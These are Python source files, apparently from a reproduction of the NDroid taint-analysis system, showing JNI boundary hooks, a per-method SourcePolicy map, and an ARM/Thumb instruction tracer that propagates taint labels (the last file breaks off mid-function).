            label |= self.taint.get_iref(return_value)
        if label:
            source = (Loc.iref(return_value) if method.return_type == "L"
                      and self.taint.get_iref(return_value) else Loc.reg(0))
            self._trace(label, "jni:dvmCallJNIMethod.return", source,
                        Loc.java(label), location=method.full_name)
        slot_address = DvmStack.native_return_taint_address(
            entry["args_ptr"], entry["count"])
        emu.memory.write_u32(slot_address, label)
        # Reset shadow registers: the native frame is gone.
        self.taint.clear_all_registers()
        if label:
            self.platform.event_log.emit(
                "ndroid.hook", "jni.return_taint",
                f"{method.full_name} returns taint {describe_taint(label)}",
                method=method.full_name, taint=label)

    # =============================================================== JNI exit

    def _make_call_method_hook(self, name: str):
        def hook(emu) -> None:
            if not self.multilevel.gate(name):
                return
            handle = emu.cpu.regs[0]
            this_iref = emu.cpu.regs[1]
            block_ptr = emu.cpu.regs[2]
            method = self.jni.method_from_handle(handle)
            param_types = method.shorty[1:]
            labels: List[TaintLabel] = []
            if not method.is_static:
                this_label = self.taint.get_iref(this_iref)
                labels.append(this_label)
                if this_label:
                    self._trace(this_label, f"jni:{name}",
                                Loc.iref(this_iref), Loc.java(this_label),
                                location=method.full_name)
            for index, type_char in enumerate(param_types):
                word_address = block_ptr + 4 * index
                label = self.taint.get_memory(word_address, 4)
                source: Loc = Loc.mem(word_address, 4)
                if type_char == "L":
                    word = emu.memory.read_u32(word_address)
                    iref_label = self.taint.get_iref(word)
                    if iref_label:
                        source = Loc.iref(word)
                    label |= iref_label
                if label:
                    # The reverse crossing: a tainted native value enters
                    # the Java context as a Call*Method* argument.
                    self._trace(label, f"jni:{name}", source,
                                Loc.java(label), location=method.full_name)
                labels.append(label)
            self._java_call_taints.append(labels)
            self.platform.event_log.emit(
                "ndroid.hook", f"{name}.args",
                f"{method.full_name} arg taints="
                f"{[hex(l) for l in labels]}",
                method=method.full_name, taints=list(labels))
        return hook

    def _on_interpret_entry(self, emu) -> None:
        if not self.multilevel.gate("dvmInterpret"):
            return
        pending = self.jni.pending_interpret
        if pending is None or not self._java_call_taints:
            return
        labels = self._java_call_taints.pop()
        frame = pending["frame"]
        first_in = pending["first_in"]
        method = pending["method"]
        for offset, label in enumerate(labels):
            if label:
                frame.add_taint(first_in + offset, label)
                slot_address = frame.taint_address(first_in + offset)
                self.platform.event_log.emit(
                    "ndroid.hook", "frame.taint",
                    f"add taint to new method frame "
                    f"t[{frame.slot_address(first_in + offset):08x}] = "
                    f"0x{label:x}",
                    method=method.full_name, slot=slot_address, taint=label,
                    frame=frame.fp)
        self.stats["jni_exits"] += 1

    def _on_interpret_exit(self, emu) -> None:
        # The interpreted method's return taint flows back to the native
        # context through shadow R0.
        result = self.jni.vm.interp_save_state
        if result.taint:
            self.taint.set_register(0, result.taint)

    def _make_call_method_exit(self, name: str):
        returns_object = "Object" in name

        def hook(emu) -> None:
            result = self.jni.vm.interp_save_state
            if not result.taint:
                return
            self.taint.set_register(0, result.taint)
            if returns_object:
                self.taint.add_iref(emu.cpu.regs[0], result.taint)
        return hook

    # ========================================================== object creation

    def _on_new_string_utf_entry(self, emu) -> None:
        cstr_ptr = emu.cpu.regs[1]
        data = emu.memory.read_cstring(cstr_ptr)
        label = self.taint.get_memory(cstr_ptr, len(data) + 1)
        label |= self.taint.get_register(1)
        self._pending_creation_taint = label
        self._pending_creation_address = None
        self._pending_creation_origin = (Loc.mem(cstr_ptr, len(data) + 1),
                                         "jni:NewStringUTF")
        self.platform.event_log.emit(
            "ndroid.hook", "NewStringUTF.begin",
            f"source=0x{cstr_ptr:08x} taint=0x{label:x}",
            source_ptr=cstr_ptr, taint=label)

    def _on_new_string_entry(self, emu) -> None:
        pointer, length = emu.cpu.regs[1], emu.cpu.regs[2]
        label = self.taint.get_memory(pointer, 2 * length)
        label |= self.taint.get_register(1)
        self._pending_creation_taint = label
        self._pending_creation_address = None
        self._pending_creation_origin = (Loc.mem(pointer, 2 * length),
                                         "jni:NewString")

    def _on_create_string_exit(self, emu) -> None:
        if self._pending_creation_taint is None and \
                self._pending_throw_taint is None:
            return
        self._pending_creation_address = emu.cpu.regs[0]
        if self._pending_throw_taint:
            # Exception path: taint the message string object directly.
            record = self.jni.vm.heap.maybe_get(emu.cpu.regs[0])
            if record is not None:
                record.taint |= self._pending_throw_taint
                self.taint.add_memory(record.address, record.byte_size(),
                                      self._pending_throw_taint)
                self.platform.event_log.emit(
                    "ndroid.hook", "exception.string_taint",
                    f"add taint 0x{self._pending_throw_taint:x} to exception "
                    f"string@0x{record.address:08x}",
                    address=record.address,
                    taint=self._pending_throw_taint)

    def _on_new_string_exit(self, emu) -> None:
        label = self._pending_creation_taint
        address = self._pending_creation_address
        origin = self._pending_creation_origin
        self._pending_creation_taint = None
        self._pending_creation_address = None
        self._pending_creation_origin = None
        if not label or address is None:
            return
        self.stats["creations"] += 1
        iref = emu.cpu.regs[0]
        record = self.jni.vm.heap.maybe_get(address)
        if record is not None:
            record.taint |= label  # TaintDroid-format object taint
            self.taint.add_memory(record.address, record.byte_size(), label)
        self.taint.add_iref(iref, label)
        self.taint.set_register(0, label)
        if origin is not None:
            source, mechanism = origin
            self._trace(label, mechanism, source, Loc.iref(iref))
        self.platform.event_log.emit(
            "ndroid.hook", "NewStringUTF.taint",
            f"add taint {label} to new string object@0x{address:08x}; "
            f"t({address:08x}) := 0x{label:x}",
            address=address, iref=iref, taint=label)

    # ============================================================ field access

    def _make_get_field_entry(self, name: str):
        static = "Static" in name

        def hook(emu) -> None:
            self._pending_field_get.append({
                "name": name,
                "object_iref": 0 if static else emu.cpu.regs[1],
                "field_handle": emu.cpu.regs[2],
                "static": static,
            })
        return hook

    def _make_get_field_exit(self, name: str):
        is_object = "Object" in name

        def hook(emu) -> None:
            if not self._pending_field_get:
                return
            pending = self._pending_field_get.pop()
            self.stats["field_accesses"] += 1
            field_class, field_name = self.jni.field_from_handle(
                pending["field_handle"])
            label = TAINT_CLEAR
            if pending["static"]:
                __, label = self.jni.vm.get_static(
                    f"{field_class}->{field_name}")
            else:
                address = self.jni.vm.irt.decode(pending["object_iref"])
                record = self.jni.vm.heap.maybe_get(address)
                if record is not None:
                    slot = record.fields.get(field_name)
                    if slot is not None:
                        label = slot.taint
            self.taint.set_register(0, label)
            if is_object and label:
                self.taint.add_iref(emu.cpu.regs[0], label)
            if label:
                self.platform.event_log.emit(
                    "ndroid.hook", "GetField.taint",
                    f"{field_class}->{field_name} taint=0x{label:x}",
                    field=f"{field_class}->{field_name}", taint=label)
        return hook

    def _make_set_field_hook(self, name: str):
        static = "Static" in name
        is_object = "Object" in name

        def hook(emu) -> None:
            self.stats["field_accesses"] += 1
            field_handle = emu.cpu.regs[2]
            value = emu.cpu.regs[3]
            label = self.taint.get_register(3)
            if is_object:
                label |= self.taint.get_iref(value)
            if not label:
                return
            field_class, field_name = self.jni.field_from_handle(field_handle)
            if static:
                # The JNI impl runs after this hook and preserves the
                # existing taint label when it stores the value, so merging
                # here is enough.
                symbol = f"{field_class}->{field_name}"
                current, old_label = self.jni.vm.get_static(symbol)
                self.jni.vm.set_static(symbol, current, old_label | label,
                                       is_ref=is_object)
            else:
                address = self.jni.vm.irt.decode(emu.cpu.regs[1])
                record = self.jni.vm.heap.maybe_get(address)
                if record is not None:
                    from repro.dalvik.heap import Slot as HeapSlot
                    slot = record.fields.get(field_name)
                    if slot is None:
                        slot = HeapSlot()
                        record.fields[field_name] = slot
                    slot.taint |= label
            self.platform.event_log.emit(
                "ndroid.hook", "SetField.taint",
                f"{field_class}->{field_name} taint=0x{label:x}",
                field=f"{field_class}->{field_name}", taint=label)
        return hook

    # ==================================================== string/array transfer

    def _on_get_string_chars_entry(self, emu) -> None:
        iref = emu.cpu.regs[1]
        label = self.taint.get_iref(iref) | self.taint.get_register(1)
        address = self.jni.vm.irt.decode(iref)
        record = self.jni.vm.heap.maybe_get(address)
        if record is not None:
            label |= record.taint
            label |= self.taint.get_memory(record.address, record.byte_size())
        self._pending_string_chars.append({"taint": label, "iref": iref})
        if label:
            self.platform.event_log.emit(
                "ndroid.hook", "GetStringUTFChars.begin",
                f"jstring taint:0x{label:x}", iref=iref, taint=label)

    def _on_get_string_chars_exit(self, emu) -> None:
        if not self._pending_string_chars:
            return
        pending = self._pending_string_chars.pop()
        label = pending["taint"]
        if not label:
            return
        buffer = emu.cpu.regs[0]
        length = len(emu.memory.read_cstring(buffer)) + 1
        self.taint.set_memory(buffer, length, label)
        self.taint.set_register(0, label)
        self.taint.log_memory_taint(buffer, label)
        self._trace(label, "jni:GetStringUTFChars",
                    Loc.iref(pending["iref"]), Loc.mem(buffer, length))

    def _make_get_array_region(self, element_size: int):
        def hook(emu) -> None:
            """Get*ArrayRegion copies array data to a native buffer."""
            iref = emu.cpu.regs[1]
            length = emu.cpu.regs[3]
            buffer = self._fifth_argument(emu)
            address = self.jni.vm.irt.decode(iref)
            record = self.jni.vm.heap.maybe_get(address)
            label = self.taint.get_iref(iref)
            if record is not None:
                label |= record.taint
            if label:
                self.taint.set_memory(buffer, length * element_size, label)
        return hook

    def _make_set_array_region(self, element_size: int):
        def hook(emu) -> None:
            """Set*ArrayRegion moves native bytes into a Java array."""
            iref = emu.cpu.regs[1]
            length = emu.cpu.regs[3]
            buffer = self._fifth_argument(emu)
            label = self.taint.get_memory(buffer, length * element_size)
            if not label:
                return
            address = self.jni.vm.irt.decode(iref)
            record = self.jni.vm.heap.maybe_get(address)
            if record is not None:
                record.taint |= label
            self.taint.add_iref(iref, label)
        return hook

    @staticmethod
    def _fifth_argument(emu) -> int:
        return emu.memory.read_u32(emu.cpu.sp)

    # ============================================================== exceptions

    def _on_throw_new_entry(self, emu) -> None:
        message_ptr = emu.cpu.regs[2]
        data = emu.memory.read_cstring(message_ptr)
        label = self.taint.get_memory(message_ptr, len(data) + 1)
        label |= self.taint.get_register(2)
        self._pending_throw_taint = label or None
        self.stats["exceptions"] += 1
        if label:
            self.platform.event_log.emit(
                "ndroid.hook", "ThrowNew.begin",
                f"message taint=0x{label:x}", taint=label)

    def _on_throw_new_exit(self, emu) -> None:
        label = self._pending_throw_taint
        self._pending_throw_taint = None
        if not label:
            return
        if self.jni.pending_exception is not None:
            address, old_label, class_name = self.jni.pending_exception
            self.jni.pending_exception = (address, old_label | label,
                                          class_name)
            record = self.jni.vm.heap.maybe_get(address)
            if record is not None:
                slot = record.fields.get("message")
                if slot is not None:
                    slot.taint |= label
                    message = self.jni.vm.heap.maybe_get(slot.value)
                    if message is not None:
                        message.taint |= label
