"""The ``SourcePolicy`` structure and hash map (paper Listing 1).

Each native method that receives tainted parameters gets a
``SourcePolicy`` recording where those taints must land in the native
context: the first four parameters' taints go to shadow R0-R3, the rest to
the taint map at their stack slots.  The map is keyed by the native
method's first-instruction address; the entry hook at that address invokes
``handler`` to "complete the taint initialization" right before the method
executes (Section V.B, JNI Entry).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional

from repro.common.taint import TAINT_CLEAR, TaintLabel
from repro.cpu.state import CpuState


@dataclass
class SourcePolicy:
    """Mirror of the C struct in Listing 1."""

    method_address: int
    t_r0: TaintLabel = TAINT_CLEAR
    t_r1: TaintLabel = TAINT_CLEAR
    t_r2: TaintLabel = TAINT_CLEAR
    t_r3: TaintLabel = TAINT_CLEAR
    stack_args_num: int = 0
    stack_args_taints: List[TaintLabel] = field(default_factory=list)
    method_shorty: str = ""
    method_name: str = ""
    access_flag: int = 0
    handler: Optional[Callable[["SourcePolicy", CpuState], None]] = None

    def register_taints(self) -> List[TaintLabel]:
        return [self.t_r0, self.t_r1, self.t_r2, self.t_r3]

    def has_taint(self) -> bool:
        return bool(self.t_r0 | self.t_r1 | self.t_r2 | self.t_r3
                    or any(self.stack_args_taints))

    def apply(self, cpu: CpuState) -> None:
        if self.handler is not None:
            self.handler(self, cpu)


class SourcePolicyMap:
    """``hash map of <addr, SourcePolicy>`` keyed by method address."""

    def __init__(self) -> None:
        self._policies: Dict[int, SourcePolicy] = {}
        self.hits = 0

    def put(self, policy: SourcePolicy) -> None:
        self._policies[policy.method_address & ~1] = policy

    def lookup(self, address: int) -> Optional[SourcePolicy]:
        policy = self._policies.get(address & ~1)
        if policy is not None:
            self.hits += 1
        return policy

    def pop(self, address: int) -> Optional[SourcePolicy]:
        return self._policies.pop(address & ~1, None)

    def __len__(self) -> int:
        return len(self._policies)
