"""The instruction tracer: Table V taint propagation for ARM/Thumb.

"By instrumenting third-party native libraries, the instruction tracer
monitors each ARM/Thumb instruction to determine how the taint propagates"
(Section V.C).  Only instructions fetched from third-party regions are
traced; system libraries are covered by the modelled handlers instead
(Section V.D), which is one of the reasons NDroid is fast.

To "speed up the identification of the instruction type and the search of
the handler, NDroid caches hot instructions and the corresponding
handlers": the handler chosen for a (pc, thumb-bit) pair is memoised, so a
loop body resolves its handlers once.

Propagation follows Table V exactly, including the address-dependency
rule: "if the tainted input is the address of an untainted value, the
taint will be propagated to it" — loads union the base register's taint
into the destination.
"""

from __future__ import annotations

from collections import deque
from typing import Callable, Deque, Dict, List, Optional, Tuple

from repro.common.errors import ReproError
from repro.common.taint import TAINT_CLEAR
from repro.cpu import isa
from repro.cpu.executor import multiple_addresses, transfer_address
from repro.cpu.state import LR, PC
from repro.emulator.emulator import Emulator
from repro.core.taint_engine import TaintEngine
from repro.observability.ledger import Loc

Handler = Callable[[isa.Instruction, Emulator], None]
# Installed by NDroid for graceful degradation: called with the handler's
# exception instead of letting it unwind the whole run.
TracerFaultHandler = Callable[[ReproError, isa.Instruction, Emulator], None]


class InstructionRingBuffer:
    """A tracer keeping the last-N executed instructions for crash reports.

    Unlike :class:`InstructionTracer` it records *every* instruction, not
    just third-party ones: after a crash the report must show the true
    tail of execution wherever it happened.
    """

    def __init__(self, capacity: int = 32) -> None:
        self.capacity = capacity
        self._ring: Deque[Dict] = deque(maxlen=capacity)

    def __call__(self, ir: isa.Instruction, emu: Emulator) -> None:
        self._ring.append({
            "index": emu.instruction_count,
            "pc": emu.cpu.pc,
            "mode": "thumb" if emu.cpu.thumb else "arm",
            "mnemonic": ir.mnemonic,
            "kind": type(ir).__name__,
        })

    def snapshot(self) -> List[Dict]:
        """Oldest-to-newest copies of the recorded instructions."""
        return [dict(entry) for entry in self._ring]

    def format(self) -> str:
        lines = [f"  #{e['index']:<8} {e['pc']:08x} [{e['mode']:>5}] "
                 f"{e['mnemonic']} ({e['kind']})"
                 for e in self.snapshot()]
        return "\n".join(lines) if lines else "  (no instructions recorded)"


class InstructionTracer:
    """Per-instruction taint propagation over third-party code."""

    def __init__(self, taint_engine: TaintEngine,
                 is_third_party: Callable[[int], bool],
                 handler_cache: bool = True) -> None:
        self.taint = taint_engine
        self._is_third_party = is_third_party
        self._region_cache: Dict[int, bool] = {}
        self._handler_cache: Dict[Tuple[int, bool], Handler] = {}
        self._use_handler_cache = handler_cache
        self.traced_instructions = 0
        self.cache_hits = 0
        # NDroid installs this so a faulting propagation handler degrades
        # the run (conservative over-taint) instead of killing it.
        self.fault_handler: Optional[TracerFaultHandler] = None
        # Provenance ledger (observability); None when not tracing.  The
        # handlers consult it only after they already found taint to move.
        self.ledger = None

    def _record(self, emu: Emulator, mnemonic: str, sources, dst) -> None:
        """Append one native-propagation edge per tainted source."""
        ledger = self.ledger
        if ledger is None:
            return
        location = f"0x{emu.cpu.pc:08x}"
        for src, tag in sources:
            if tag:
                ledger.record(tag, f"native:{mnemonic}", src, dst, location)

    # -- the emulator tracer callback -----------------------------------------

    def __call__(self, ir: isa.Instruction, emu: Emulator) -> None:
        pc = emu.cpu.pc
        page = pc >> 12
        in_scope = self._region_cache.get(page)
        if in_scope is None:
            in_scope = self._is_third_party(pc)
            self._region_cache[page] = in_scope
        if not in_scope:
            return
        self.traced_instructions += 1
        if self._use_handler_cache:
            key = (pc, emu.cpu.thumb)
            handler = self._handler_cache.get(key)
            if handler is None:
                handler = self._select_handler(ir)
                self._handler_cache[key] = handler
            else:
                self.cache_hits += 1
        else:
            handler = self._select_handler(ir)
        if not self.taint.maybe_tainted:
            # No label anywhere in the engine yet: every Table-V rule
            # degenerates to clear := clear, so skip the handler (the
            # resolution/cache accounting above still reflects coverage).
            return
        if self.fault_handler is None:
            handler(ir, emu)
            return
        try:
            handler(ir, emu)
        except ReproError as error:
            self.fault_handler(error, ir, emu)

    def invalidate_region_cache(self) -> None:
        self._region_cache.clear()

    # -- handler selection ---------------------------------------------------------

    def _select_handler(self, ir: isa.Instruction) -> Handler:
        if isinstance(ir, isa.DataProcessing):
            return self._handle_data_processing
        if isinstance(ir, isa.Multiply):
            return self._handle_multiply
        if isinstance(ir, isa.MultiplyLong):
            return self._handle_multiply_long
        if isinstance(ir, isa.MoveWide):
            return self._handle_move_wide
        if isinstance(ir, isa.CountLeadingZeros):
            return self._handle_clz
        if isinstance(ir, isa.LoadStore):
            return self._handle_load_store
        if isinstance(ir, isa.LoadStoreMultiple):
            return self._handle_load_store_multiple
        if isinstance(ir, (isa.Branch, isa.BranchExchange)):
            return self._handle_branch
        return self._handle_nop

    # -- handlers (Table V) -----------------------------------------------------------

    def _handle_nop(self, ir: isa.Instruction, emu: Emulator) -> None:
        return None

    def _handle_data_processing(self, ir: isa.DataProcessing,
                                emu: Emulator) -> None:
        taint = self.taint
        if ir.op in isa.COMPARE_OPS:
            return  # flags only; control-flow taint is out of scope (§VII)
        operand2 = ir.operand2
        label = TAINT_CLEAR
        if operand2.is_immediate:
            # "mov Rd, #imm -> clear"; "binary-op Rd, Rm, #imm -> t(Rm)".
            if ir.op not in isa.UNARY_OPS:
                label = taint.get_register(ir.rn)
        else:
            label = taint.get_register(operand2.rm)
            if operand2.shift_reg is not None:
                label |= taint.get_register(operand2.shift_reg)
            if ir.op not in isa.UNARY_OPS:
                label |= taint.get_register(ir.rn)
        if ir.rd != PC:
            if label and self.ledger is not None:
                sources = []
                if not operand2.is_immediate:
                    sources.append((Loc.reg(operand2.rm),
                                    taint.get_register(operand2.rm)))
                    if operand2.shift_reg is not None:
                        sources.append(
                            (Loc.reg(operand2.shift_reg),
                             taint.get_register(operand2.shift_reg)))
                if ir.op not in isa.UNARY_OPS:
                    sources.append((Loc.reg(ir.rn),
                                    taint.get_register(ir.rn)))
                self._record(emu, ir.mnemonic, sources, Loc.reg(ir.rd))
            taint.set_register(ir.rd, label)

    def _handle_multiply(self, ir: isa.Multiply, emu: Emulator) -> None:
        label = self.taint.get_register(ir.rm) | self.taint.get_register(ir.rs)
        if ir.accumulate:
            label |= self.taint.get_register(ir.rn)
        if label and self.ledger is not None:
            sources = [(Loc.reg(ir.rm), self.taint.get_register(ir.rm)),
                       (Loc.reg(ir.rs), self.taint.get_register(ir.rs))]
            if ir.accumulate:
                sources.append((Loc.reg(ir.rn),
                                self.taint.get_register(ir.rn)))
            self._record(emu, ir.mnemonic, sources, Loc.reg(ir.rd))
        self.taint.set_register(ir.rd, label)

    def _handle_multiply_long(self, ir: isa.MultiplyLong,
                              emu: Emulator) -> None:
        label = self.taint.get_register(ir.rm) | self.taint.get_register(ir.rs)
        if ir.accumulate:
            label |= self.taint.get_register(ir.rd_lo) | \
                self.taint.get_register(ir.rd_hi)
        if label and self.ledger is not None:
            sources = [(Loc.reg(ir.rm), self.taint.get_register(ir.rm)),
                       (Loc.reg(ir.rs), self.taint.get_register(ir.rs))]
            self._record(emu, ir.mnemonic, sources, Loc.reg(ir.rd_lo))
            self._record(emu, ir.mnemonic, sources, Loc.reg(ir.rd_hi))
        self.taint.set_register(ir.rd_lo, label)
        self.taint.set_register(ir.rd_hi, label)

    def _handle_move_wide(self, ir: isa.MoveWide, emu: Emulator) -> None:
        if ir.top:
            return  # MOVT merges an immediate; existing taint stands
        self.taint.set_register(ir.rd, TAINT_CLEAR)

    def _handle_clz(self, ir: isa.CountLeadingZeros, emu: Emulator) -> None:
        label = self.taint.get_register(ir.rm)
        if label and self.ledger is not None:
            self._record(emu, ir.mnemonic, [(Loc.reg(ir.rm), label)],
                         Loc.reg(ir.rd))
        self.taint.set_register(ir.rd, label)

    def _handle_load_store(self, ir: isa.LoadStore, emu: Emulator) -> None:
        taint = self.taint
        address, __ = transfer_address(emu.cpu, ir)
        if ir.load:
            if ir.rd == PC:
                return
            label = taint.get_memory(address, ir.size)
            # Table V LDR: union the base register's taint ("if the tainted
            # input is the address of an untainted value...").
            if ir.rn != PC:
                label |= taint.get_register(ir.rn)
            if ir.offset_rm is not None:
                label |= taint.get_register(ir.offset_rm)
            if label and self.ledger is not None:
                sources = [(Loc.mem(address, ir.size),
                            taint.get_memory(address, ir.size))]
                if ir.rn != PC:
                    sources.append((Loc.reg(ir.rn),
                                    taint.get_register(ir.rn)))
                if ir.offset_rm is not None:
                    sources.append((Loc.reg(ir.offset_rm),
                                    taint.get_register(ir.offset_rm)))
                self._record(emu, ir.mnemonic, sources, Loc.reg(ir.rd))
            taint.set_register(ir.rd, label)
        else:
            label = taint.get_register(ir.rd)
            if label and self.ledger is not None:
                self._record(emu, ir.mnemonic, [(Loc.reg(ir.rd), label)],
                             Loc.mem(address, ir.size))
            taint.set_memory(address, ir.size, label)

    def _handle_load_store_multiple(self, ir: isa.LoadStoreMultiple,
                                    emu: Emulator) -> None:
        taint = self.taint
        addresses = multiple_addresses(emu.cpu, ir)
        base_label = taint.get_register(ir.rn)
        if ir.load:
            for register, address in zip(ir.reglist, addresses):
                if register == PC:
                    continue
                label = taint.get_memory(address, 4) | base_label
                if label and self.ledger is not None:
                    self._record(
                        emu, ir.mnemonic,
                        [(Loc.mem(address, 4),
                          taint.get_memory(address, 4)),
                         (Loc.reg(ir.rn), base_label)],
                        Loc.reg(register))
                taint.set_register(register, label)
        else:
            for register, address in zip(ir.reglist, addresses):
                label = taint.get_register(register)
                if label and self.ledger is not None:
                    self._record(emu, ir.mnemonic,
                                 [(Loc.reg(register), label)],
                                 Loc.mem(address, 4))
                taint.set_memory(address, 4, label)

    def _handle_branch(self, ir: isa.Instruction, emu: Emulator) -> None:
        link = getattr(ir, "link", False)
        if link:
            # BL/BLX write a code address into LR: never tainted.
            self.taint.set_register(LR, TAINT_CLEAR)
