"""The instruction tracer: Table V taint propagation for ARM/Thumb.

"By instrumenting third-party native libraries, the instruction tracer
monitors each ARM/Thumb instruction to determine how the taint propagates"
(Section V.C).  Only instructions fetched from third-party regions are
traced; system libraries are covered by the modelled handlers instead
(Section V.D), which is one of the reasons NDroid is fast.

To "speed up the identification of the instruction type and the search of
the handler, NDroid caches hot instructions and the corresponding
handlers": the handler chosen for a (pc, thumb-bit) pair is memoised, so a
loop body resolves its handlers once.

The tracer exposes the same propagation rules two ways:

* the **single-step callback** (:meth:`__call__`): the emulator invokes it
  before every instruction — the differential oracle, and the only path
  compatible with the fault injector;
* the **translation-time factory** (:meth:`compile_taint_op`): NDroid's
  real design point — "NDroid inserts its analysis at translation time"
  inside QEMU's TCG loop.  At block-translation time the emulator asks
  once whether the block's page is third-party (:meth:`in_scope`, the
  per-instruction region lookup hoisted to one check per block), then for
  each instruction requests a *taint micro-op*: the Table V handler is
  selected once and its operands (register indices, ledger locations, the
  ``0x%08x`` location string) are pre-bound into a closure that runs
  alongside the execution micro-op.  Blocks outside third-party regions
  carry no taint ops at all.

Propagation follows Table V exactly, including the address-dependency
rule: "if the tainted input is the address of an untainted value, the
taint will be propagated to it" — loads union the base register's taint
into the destination.
"""

from __future__ import annotations

from collections import deque
from typing import Callable, Deque, Dict, List, Optional, Tuple

from repro.common.errors import ReproError
from repro.common.taint import TAINT_CLEAR
from repro.cpu import isa
from repro.cpu.executor import multiple_addresses, transfer_address
from repro.cpu.state import LR, PC
from repro.emulator.emulator import Emulator
from repro.core.taint_engine import TaintEngine
from repro.observability.ledger import Loc

Handler = Callable[[isa.Instruction, Emulator], None]
# A pre-bound taint propagation step emitted into a translation block.
TaintOp = Callable[[], None]
# Installed by NDroid for graceful degradation: called with the handler's
# exception instead of letting it unwind the whole run.
TracerFaultHandler = Callable[[ReproError, isa.Instruction, Emulator], None]


class InstructionRingBuffer:
    """A tracer keeping the last-N executed instructions for crash reports.

    Unlike :class:`InstructionTracer` it records *every* instruction, not
    just third-party ones: after a crash the report must show the true
    tail of execution wherever it happened.
    """

    def __init__(self, capacity: int = 32) -> None:
        self.capacity = capacity
        self._ring: Deque[Dict] = deque(maxlen=capacity)

    def __call__(self, ir: isa.Instruction, emu: Emulator) -> None:
        self._ring.append({
            "index": emu.instruction_count,
            "pc": emu.cpu.pc,
            "mode": "thumb" if emu.cpu.thumb else "arm",
            "mnemonic": ir.mnemonic,
            "kind": type(ir).__name__,
        })

    def snapshot(self) -> List[Dict]:
        """Oldest-to-newest copies of the recorded instructions."""
        return [dict(entry) for entry in self._ring]

    def format(self) -> str:
        lines = [f"  #{e['index']:<8} {e['pc']:08x} [{e['mode']:>5}] "
                 f"{e['mnemonic']} ({e['kind']})"
                 for e in self.snapshot()]
        return "\n".join(lines) if lines else "  (no instructions recorded)"


class InstructionTracer:
    """Per-instruction taint propagation over third-party code."""

    # The emulator keeps translation blocks enabled for this tracer and
    # compiles its propagation into the blocks instead of single-stepping.
    compiles_to_tb = True

    def __init__(self, taint_engine: TaintEngine,
                 is_third_party: Callable[[int], bool],
                 handler_cache: bool = True) -> None:
        self.taint = taint_engine
        self._is_third_party = is_third_party
        self._region_cache: Dict[int, bool] = {}
        self._handler_cache: Dict[Tuple[int, bool], Handler] = {}
        self._use_handler_cache = handler_cache
        self.traced_instructions = 0
        self.cache_hits = 0
        # NDroid installs this so a faulting propagation handler degrades
        # the run (conservative over-taint) instead of killing it.
        self.fault_handler: Optional[TracerFaultHandler] = None
        # Provenance ledger (observability); None when not tracing.  The
        # handlers consult it only after they already found taint to move.
        self.ledger = None
        # Installed by the emulator: compiled taint ops bake in the
        # region decision, so a region-table change must also flush the
        # translation cache, not just this tracer's page cache.
        self._region_invalidate: Optional[Callable[[], None]] = None

    def _record(self, emu: Emulator, mnemonic: str, sources, dst) -> None:
        """Append one native-propagation edge per tainted source."""
        ledger = self.ledger
        if ledger is None:
            return
        location = f"0x{emu.cpu.pc:08x}"
        for src, tag in sources:
            if tag:
                ledger.record(tag, f"native:{mnemonic}", src, dst, location)

    def _record_at(self, location: str, mechanism: str, sources, dst) -> None:
        """Ledger edges from a compiled op (location pre-bound at translate
        time — ``regs[PC]`` is stale inside a translation block body)."""
        ledger = self.ledger
        for src, tag in sources:
            if tag:
                ledger.record(tag, mechanism, src, dst, location)

    # -- scoping --------------------------------------------------------------

    def in_scope(self, pc: int) -> bool:
        """Is ``pc`` in a third-party region?  Page-granular, cached."""
        page = pc >> 12
        cached = self._region_cache.get(page)
        if cached is None:
            cached = self._is_third_party(pc)
            self._region_cache[page] = cached
        return cached

    def invalidate_region_cache(self) -> None:
        self._region_cache.clear()
        if self._region_invalidate is not None:
            self._region_invalidate()

    def set_region_invalidate_callback(
            self, callback: Optional[Callable[[], None]]) -> None:
        self._region_invalidate = callback

    # -- the emulator tracer callback -----------------------------------------

    def __call__(self, ir: isa.Instruction, emu: Emulator) -> None:
        if not self.in_scope(emu.cpu.pc):
            return
        self.traced_instructions += 1
        if self._use_handler_cache:
            key = (emu.cpu.pc, emu.cpu.thumb)
            handler = self._handler_cache.get(key)
            if handler is None:
                handler = self._select_handler(ir)
                self._handler_cache[key] = handler
            else:
                self.cache_hits += 1
        else:
            handler = self._select_handler(ir)
        if not self.taint.maybe_tainted:
            # No label anywhere in the engine yet: every Table-V rule
            # degenerates to clear := clear, so skip the handler (the
            # resolution/cache accounting above still reflects coverage).
            return
        if self.fault_handler is None:
            handler(ir, emu)
            return
        try:
            handler(ir, emu)
        except ReproError as error:
            self.fault_handler(error, ir, emu)

    # -- translation-time factory ---------------------------------------------

    def compile_taint_op(self, ir: isa.Instruction, pc: int,
                         emu: Emulator) -> Optional[TaintOp]:
        """Pre-select the Table V handler for ``ir`` and pre-bind its
        operands into a zero-argument taint micro-op, or ``None`` when the
        rule is a no-op (compare, plain branch, MOVT, writes to PC).

        The op performs exactly the engine calls and ledger records the
        single-step handler would: the differential tests pin this.
        """
        op = self._compile_select(ir, pc, emu)
        if op is None:
            return None
        tracer = self

        def guarded() -> None:
            try:
                op()
            except ReproError as error:
                handler = tracer.fault_handler
                if handler is None:
                    raise
                handler(error, ir, emu)
        return guarded

    def _compile_select(self, ir: isa.Instruction, pc: int,
                        emu: Emulator) -> Optional[TaintOp]:
        if isinstance(ir, isa.DataProcessing):
            return self._compile_data_processing(ir, pc)
        if isinstance(ir, isa.Multiply):
            sources = [ir.rm, ir.rs]
            if ir.accumulate:
                sources.append(ir.rn)
            return self._compile_reg_union(sources, ir.rd, ir.mnemonic, pc)
        if isinstance(ir, isa.MultiplyLong):
            return self._compile_multiply_long(ir, pc)
        if isinstance(ir, isa.MoveWide):
            if ir.top:
                return None  # MOVT merges an immediate; taint stands
            return self._compile_clear(ir.rd)
        if isinstance(ir, isa.CountLeadingZeros):
            return self._compile_reg_union([ir.rm], ir.rd, ir.mnemonic, pc)
        if isinstance(ir, isa.LoadStore):
            return self._compile_load_store(ir, pc, emu)
        if isinstance(ir, isa.LoadStoreMultiple):
            return self._compile_load_store_multiple(ir, pc, emu)
        if isinstance(ir, (isa.Branch, isa.BranchExchange)):
            if getattr(ir, "link", False):
                return self._compile_clear(LR)
            return None
        return None

    def _compile_clear(self, rd: int) -> TaintOp:
        set_register = self.taint.set_register

        def op() -> None:
            set_register(rd, TAINT_CLEAR)
        return op

    def _compile_data_processing(self, ir: isa.DataProcessing,
                                 pc: int) -> Optional[TaintOp]:
        if ir.op in isa.COMPARE_OPS:
            return None  # flags only; control-flow taint out of scope (§VII)
        if ir.rd == PC:
            return None  # the handler computes but never writes
        operand2 = ir.operand2
        if operand2.is_immediate:
